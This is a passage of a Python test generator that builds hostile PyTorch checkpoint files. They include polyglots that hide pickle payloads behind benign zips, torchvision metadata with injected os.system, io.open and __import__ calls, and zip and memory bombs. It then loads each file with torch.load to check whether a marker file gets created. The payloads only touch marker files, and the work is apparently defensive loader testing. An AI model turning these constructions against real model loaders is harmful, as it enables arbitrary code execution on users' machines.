        name = "poly-legacy-then-zip-%s-%s.pt" % (tech, where)
        if where == "magic":
            lead = payload(marker(name), tech, "bare")
        else:
            lead = legacy(payload(marker(name), tech))
        add(name, no_zip_at_512(lead + BENIGN_ZIP), "polyglot", "hostile legacy pickles (payload in the %s pickle) + a benign torch zip" % where)

    # 3b. A hostile legacy tar, then a benign torch zip.
    for member, tech in (("storages", "open"), ("pickle", "system")):
        name = "poly-tar-then-zip-%s-%s.pt" % (member, tech)
        mem = {"storages": STORAGES0, "tensors": TENSORS0, "pickle": DECOY}
        mem[member] = payload(marker(name), tech)
        t = b"".join(tar_file(m, mem[m]) for m in ("storages", "tensors", "pickle")) + TAR_END
        add(name, t + BENIGN_ZIP, "polyglot", "a legacy tar (hostile %s) + a benign torch zip" % member)

    # 3c. A benign-looking zip followed by hostile legacy bytes: the file is
    #     one pickle whose first opcode is a BINBYTES holding the whole zip;
    #     the payload follows it (or precedes it).
    for tech, before in (("open", False), ("exec", True)):
        name = "poly-zip-in-binbytes-%s-%s.pt" % (tech, "payload-first" if before else "payload-after")
        p, strf, cname = TECH[tech]
        call = calls(marker(name), strf, p >= 4)[cname]
        blob = b"B" + struct.pack("<I", len(BENIGN_ZIP)) + BENIGN_ZIP
        body = proto(3) + (call + b"0" + blob if before else blob + b"0" + call) + b"."
        add(name, no_zip_at_512(body), "polyglot", "one pickle: a BINBYTES holding a benign torch zip, then POP and the payload%s" % (" (payload first)" if before else ""))

    # 3d. A complete legacy file (payload in the object) where zipfile finds
    #     an appended zip: a vidcache-like one, or a torchvision metadata one.
    for tech, app in (("open", "benign"), ("getattr", "torchvision")):
        name = "poly-legacy-full-then-%s-zip-%s.pt" % (app, tech)
        body = legacy(payload(marker(name), tech)) + (BENIGN_ZIP if app == "benign" else TV_ZIP)
        add(name, no_zip_at_512(body), "polyglot", "a complete legacy file (payload in the object pickle) + an appended %s zip" % app)

    # 3e. A torchvision metadata zip appended after a hostile legacy pickle:
    #     what `vidcache import` converted without a warning. Payload via INST
    #     and via a magic-number pickle that still evaluates to the magic.
    for tech in ("inst", "open"):
        name = "poly-legacy-then-torchvision-zip-%s.pt" % tech
        p, strf, cname = TECH[tech]
        first = (proto(2) if p >= 2 else b"") + calls(marker(name), strf, False)[cname] + b"0" + pickle.dumps(MAGIC, protocol=2)[2:]
        body = first + pickle.dumps(1001, protocol=2) + pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                                                      "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
        add(name, no_zip_at_512(body + TV_ZIP), "polyglot",
            "hostile magic-number pickle (runs, then evaluates to the magic) + a genuine torchvision metadata zip")

    # ---- 4. import: torchvision metadata with extra code ---------------------
    def call_io_open(m):
        return glob("io", "open") + tup(bu(m), bu("w")) + b"R"

    imports = {
        "io-open-extra-key": lambda m: tv_metadata(bu("_cache_handle") + call_io_open(m)),
        "codecs-open-extra-key": lambda m: tv_metadata(bu("_log") + glob("codecs", "open") + tup(bu(m), bu("w")) + b"R"),
        "os-system-nested": lambda m: tv_metadata(bu("_meta") + b"}(" + bu("rc") + glob("os", "system") + tup(bu("touch " + m)) + b"R" + b"u"),
        "getattr-chain-in-fps": lambda m: tv_metadata(fps=[b"G" + struct.pack(">d", 30000 / 1001),
                                                           glob("builtins", "getattr") + tup(call_io_open(m), bu("close")) + b"R" + b")R"]),
        "getattr-import-extra-key": lambda m: tv_metadata(bu("_x") + glob("builtins", "getattr") + tup(glob("builtins", "__import__") + tup(bu("os")) + b"R", bu("system")) + b"R"
                                                          + tup(bu("touch " + m)) + b"R"),
    }
    for how, mk in imports.items():
        name = "import-torchvision-%s.pt" % how
        add(name, torch_zip(mk(marker(name)), [("0", PTS_REC)]), "import", "a torchvision metadata dict in a torch zip, one value built by %s" % how)

    # ---- 5. bombs (benign; budgets) --------------------------------------------
    def deflated_zip(pkl):
        return torch_zip(pkl, deflate_pkl=True)

    n = 8 << 20
    setitem = b"".join(b"K" + bytes([k]) + b"Ns" for k in range(256)) * (n // 256)
    add("bomb-flat-dict-setitem.pt", deflated_zip(proto(2) + b"}" + setitem + b"."), "bomb", "32 MB flat dict, one SETITEM per pair")
    setitems = b"".join(b"K" + bytes([k]) + b"N" for k in range(256)) * (n // 256)
    add("bomb-flat-dict-setitems.pt", deflated_zip(proto(2) + b"}(" + setitems + b"u."), "bomb", "24 MB flat dict, one SETITEMS (8M pairs under one MARK)")
    append = b"Na" * (n * 2)
    add("bomb-flat-list-append.pt", deflated_zip(proto(2) + b"]" + append + b"."), "bomb", "32 MB flat list, one APPEND per item")
    appends = b"N" * (n * 4)
    add("bomb-flat-list-appends.pt", deflated_zip(proto(2) + b"](" + appends + b"e."), "bomb", "32 MB flat list, one APPENDS (32M items under one MARK)")
    del setitem, setitems, append, appends

    # A 1.2 GB storage record deflated to ~1.1 MB, behind a 4-element tensor.
    big = 1200 * 1000 * 1000
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw, crc, chunk = [], 0, b"\0" * (1 << 20)
    left = big
    while left:
        k = min(left, len(chunk))
        raw.append(c.compress(chunk[:k]))
        crc = zlib.crc32(chunk[:k], crc)
        left -= k
    raw.append(c.flush())
    raw = b"".join(raw)
    pkl = proto(2) + b"}(" + bu("weight") + tensor("0", big, 0, 4, storage="ByteStorage") + b"u."
    z = Zip()
    es = [z.local(D, pkl), z.local(P + "byteorder", b"little"),
          z.local(P + "data/0", None, deflate=True, raw=raw, crc=crc, usize=big), z.local(V, b"3\n")]
    z.end(z.cd(es))
    add("bomb-storage-1.2GB.pt", z.bytes(), "bomb", "a 1.2 GB storage record deflated to %d bytes behind a 4-element tensor" % len(raw))

    with open(os.path.join(out, "differential.json"), "w") as f:
        json.dump(files, f, indent=1)
    print(json.dumps({"hostile": sum(f["kind"] != "bomb" for f in files), "bomb": sum(f["kind"] == "bomb" for f in files)}))


def prove_all(out, kinds=None):
    import signal
    import warnings
    warnings.filterwarnings("ignore")
    import torch
    with open(os.path.join(out, "differential.json")) as f:
        files = [e for e in json.load(f) if kinds is None or e["kind"] in kinds.split(",")]

    def attempt(path, marker, **kw):
        if marker and os.path.exists(marker):
            os.remove(marker)
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(r)
            signal.alarm(120)
            msg = "ok"
            try:
                os.chdir(out)
                torch.load(path, **kw)
            except BaseException as e:
                msg = "%s: %s" % (type(e).__name__, (str(e).strip().splitlines() or [""])[0][:160])
            os.write(w, msg.encode("utf-8", "replace"))
            os._exit(0)
        os.close(w)
        msg = b""
        while True:
            b = os.read(r, 65536)
            if not b:
                break
            msg += b
        os.close(r)
        _, st = os.waitpid(pid, 0)
        m = msg.decode("utf-8", "replace") or "child died (wait status %d)" % st
        ran = bool(marker) and os.path.exists(marker)
        if ran:
            os.remove(marker)
        return {"ran": ran, "loaded": m == "ok", "error": "" if m == "ok" else m}

    res = {"torch": torch.__version__, "files": {}}
    for e in files:
        if e["kind"] == "bomb":  # benign: only whether weights_only loads it (2.x's unpickler is slow Python)
            r = {"weights_only": attempt(e["path"], e["marker"], weights_only=True)}
        else:
            r = {"full": attempt(e["path"], e["marker"], weights_only=False), "default": attempt(e["path"], e["marker"])}
        res["files"][e["name"]] = r
    print(json.dumps(res))


if __name__ == "__main__":
    {"hostile": write_hostile, "prove": prove_all}[sys.argv[1]](*sys.argv[2:])
